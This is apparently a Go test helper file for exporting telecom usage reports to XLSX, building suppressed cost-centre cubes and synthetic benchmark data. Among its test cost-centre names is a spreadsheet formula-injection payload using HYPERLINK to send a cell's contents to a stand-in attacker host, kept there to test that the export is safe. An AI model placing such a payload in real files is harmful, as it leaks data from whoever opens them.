package export

import (
	"bytes"
	"fmt"
	"testing"
	"time"

	ur "usagereport"
	"usagereport/aggregate"
	"usagereport/suppress"
)

var (
	testOrg     = ur.Org(987654325)
	testMonth   = ur.MonthOf(2026, time.March)
	testCreated = time.Date(2026, 4, 1, 6, 30, 0, 0, time.UTC)
)

// ccSpec is a cost centre of a test cube and its number of subscriptions.
type ccSpec struct {
	name string
	subs int
}

// smallSpecs is the small organisation of the golden test. Its cost
// centre names include formula-looking text, and some are below k = 5.
var smallSpecs = []ccSpec{
	{"Sales", 9},
	{"Support", 6},
	{"", 2},
	{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, 5},
	{"+4791234567", 5},
	{"-1", 3},
	{"@SUM(B4:B9)", 6},
	{"R&D <Oslo> \"Ås\"", 7},
}

// records returns deterministic usage for the cost centres: every
// subscription calls and texts at home, most use data, some roam, and
// amounts vary enough to be told apart in a scan. seed shifts the
// amounts, for earlier months.
func records(org ur.Org, m ur.Month, specs []ccSpec, seed int) []ur.Record {
	var recs []ur.Record
	seq := seed * 1000
	next := func() int { seq++; return seq }
	sub := 0
	for _, cc := range specs {
		for range cc.subs {
			sub++
			var p ur.Pseudonym
			p[0], p[1], p[2] = byte(sub), byte(sub>>8), byte(sub>>16)
			add := func(svc ur.Service, z ur.Zone, dur, vol int64) {
				n := next()
				recs = append(recs, ur.Record{
					Org: org, Month: m, Subscriber: p, CostCentre: cc.name, Service: svc, Zone: z,
					DurationS: dur, VolumeBytes: vol,
					Charge: ur.Amount(int64(n%97+3)*10_000 + int64(n*379%10_000)),
				})
			}
			add(ur.Voice, ur.Domestic, int64(61+next()*53%1700), 0)
			add(ur.SMS, ur.Domestic, 0, 0)
			if sub%4 != 0 {
				add(ur.Data, ur.Domestic, 0, int64(next())*123_456_789%9_000_000_000)
			}
			if sub%3 == 0 {
				add(ur.Voice, ur.EUEEA, int64(30+next()*17%600), 0)
				add(ur.Data, ur.EUEEA, 0, int64(next())*7_654_321%900_000_000)
			}
			if sub%5 == 0 {
				add(ur.MMS, ur.Domestic, 0, int64(next()*1009%300_000))
			}
			if sub%11 == 0 {
				add(ur.Voice, ur.World, int64(45+next()*29%900), 0)
			}
		}
	}
	return recs
}

// newTestCube aggregates the records into one cube with k = 5. The
// suppression pattern is the test's own, so that these tests do not move
// with the suppression rules: every cell is reset to published, cells
// below k are hidden as primary, then rehide (if any) hides more by hand.
func newTestCube(tb testing.TB, m ur.Month, specs []ccSpec, seed int, rehide func([]ur.Cell)) *ur.Report {
	tb.Helper()
	b := aggregate.NewBuilder(m)
	for _, r := range records(testOrg, m, specs, seed) {
		if err := b.Add(&r); err != nil {
			tb.Fatal(err)
		}
	}
	cubes, _, err := suppress.Cubes(b, suppress.Config{MinGroupSize: 5})
	if err != nil {
		tb.Fatal(err)
	}
	if len(cubes) != 1 {
		tb.Fatalf("got %d cubes, want 1", len(cubes))
	}
	c := &cubes[0].Report
	cells := c.Cells
	for i := range cells {
		cells[i].Suppression = ur.Published
		if cells[i].Set != 0 && cells[i].Subscribers < 5 {
			cells[i].Suppression = ur.HiddenSmall
		}
	}
	if rehide != nil {
		rehide(cells)
	}
	return c
}

// secondary marks a few published cells hidden by the other rules, as
// secondary suppression and the dominance rule would.
func secondary(cells []ur.Cell) {
	for i := range cells {
		c := &cells[i]
		switch {
		case c.Set == ur.ByCostCentre|ur.ByService && c.CostCentre == "Support" && c.Service == ur.SMS:
			c.Suppression = ur.HiddenSecondary
		case c.Set == ur.ByCostCentre|ur.ByService && c.CostCentre == "Sales" && c.Service == ur.Data:
			c.Suppression = ur.HiddenDominance
		case c.Set == ur.ByCostCentre && c.CostCentre == "+4791234567":
			c.Suppression = ur.HiddenSecondary
		case c.Set == ur.ByService|ur.ByZone && c.Service == ur.Data && c.Zone == ur.EUEEA:
			c.Suppression = ur.HiddenSecondary
		}
	}
}

// reports returns the reports of cubes.
func reports(cubes []*suppress.Cube) []*ur.Report {
	reps := make([]*ur.Report, len(cubes))
	for i, c := range cubes {
		reps[i] = &c.Report
	}
	return reps
}

// smallCubes returns the small organisation's month and two earlier months.
func smallCubes(tb testing.TB) (*ur.Report, []*ur.Report) {
	tb.Helper()
	c := newTestCube(tb, testMonth, smallSpecs, 0, secondary)
	h1 := newTestCube(tb, testMonth-2, smallSpecs[:4], 1, nil)
	h2 := newTestCube(tb, testMonth-1, append([]ccSpec{{"Sales", 4}}, smallSpecs[1:]...), 2, nil)
	return c, []*ur.Report{h1, h2}
}

// writeXLSX writes a workbook into memory.
func writeXLSX(tb testing.TB, c *ur.Report, history []*ur.Report) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, c, history, testCreated); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// syntheticCube builds a cube of n cost centres straight from cells, in
// report order, without the aggregation and its suppression: benchmarks
// and layout tests of large organisations need many cost centres fast.
// Every cost centre uses every service at home only; one in seven has
// fewer than k subscriptions and is hidden with all its cells, and
// charges repeat so that the order has ties to break.
func syntheticCube(tb testing.TB, n int) *ur.Report {
	tb.Helper()
	type cc struct {
		name string
		svc  [ur.NumServices]ur.Cell
	}
	ccs := make([]cc, n)
	for i := range ccs {
		subs := int64(5 + i%9)
		if i%7 == 3 {
			subs = 2
		}
		ccs[i].name = fmt.Sprintf("CC-%05d", i)
		for s := range ur.Service(ur.NumServices) {
			c := ur.Cell{
				Set: ur.ByCostCentre | ur.ByService | ur.ByZone, CostCentre: ccs[i].name, Service: s, Zone: ur.Domestic,
				Subscribers: subs, Events: subs * int64(3+s),
				Charge: ur.Amount(int64(i%50+1)*1_234_500 + int64(s)*10_000),
			}
			switch s {
			case ur.Voice:
				c.DurationS = subs * int64(100+i%600)
			case ur.Data:
				c.VolumeBytes = subs * int64(i%1000+1) * 1_000_003
			}
			ccs[i].svc[s] = c
		}
	}
	hide := func(c *ur.Cell) {
		if c.Set != 0 && c.Subscribers < 5 {
			c.Suppression = ur.HiddenSmall
		}
	}
	// sum adds b's measures into a; subscribers are distinct per cost
	// centre here, so they add up too.
	sum := func(a *ur.Cell, b ur.Cell) {
		a.Subscribers += b.Subscribers
		a.Events += b.Events
		a.DurationS += b.DurationS
		a.VolumeBytes += b.VolumeBytes
		a.Charge += b.Charge
	}
	var total ur.Cell
	var bySvc [ur.NumServices]ur.Cell
	var ccTotals, ccSvc, ccZone, fine []ur.Cell
	for _, c := range ccs {
		t := ur.Cell{Set: ur.ByCostCentre, CostCentre: c.name}
		for s, f := range c.svc {
			sum(&t, f)
			sum(&bySvc[s], f)
			sv := f
			sv.Set = ur.ByCostCentre | ur.ByService
			hide(&sv)
			ccSvc = append(ccSvc, sv)
			hide(&f)
			fine = append(fine, f)
		}
		t.Subscribers = c.svc[0].Subscribers
		sum(&total, t)
		hide(&t)
		ccTotals = append(ccTotals, t)
		z := t
		z.Set, z.Zone = ur.ByCostCentre|ur.ByZone, ur.Domestic
		ccZone = append(ccZone, z)
	}
	var svcCells, svcZone []ur.Cell
	for s := range ur.Service(ur.NumServices) {
		c := bySvc[s]
		c.Set, c.Service = ur.ByService, s
		svcCells = append(svcCells, c)
		c.Set, c.Zone = ur.ByService|ur.ByZone, ur.Domestic
		svcZone = append(svcZone, c)
	}
	zone := total
	zone.Set, zone.Zone = ur.ByZone, ur.Domestic
	cells := []ur.Cell{total}
	cells = append(cells, ccTotals...)
	cells = append(cells, svcCells...)
	cells = append(cells, zone)
	cells = append(cells, ccSvc...)
	cells = append(cells, ccZone...)
	cells = append(cells, svcZone...)
	cells = append(cells, fine...)
	return &ur.Report{Org: testOrg, Month: testMonth, MinGroupSize: 5, Cells: cells}
}
